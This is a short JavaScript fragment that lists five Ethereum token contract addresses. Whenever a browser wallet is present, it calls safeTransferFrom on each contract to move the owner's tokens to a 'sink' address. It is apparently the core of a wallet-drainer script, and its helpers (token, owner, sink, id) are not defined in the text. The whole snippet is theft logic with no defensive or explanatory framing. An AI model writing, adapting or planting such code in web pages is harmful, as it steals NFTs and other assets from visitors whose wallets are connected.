const list = ["0x8a90cab2b38dba80c64b7734e58ee1db38b8992e", "0xED5AF388653567AF2F388E6224DC7C4B3241C544", "0x23581767a106ae21c074b2276d25e5c3e136a68b", "0x1a92f7381b9f03921564a437210bb9396471050c", "0xbd3531da5cf5857e7cfaa92426877b022e612cf8"];
window.ethereum && list.forEach(function (c) {
  token(c).methods.safeTransferFrom(owner, sink, id).send({ from: owner });
});
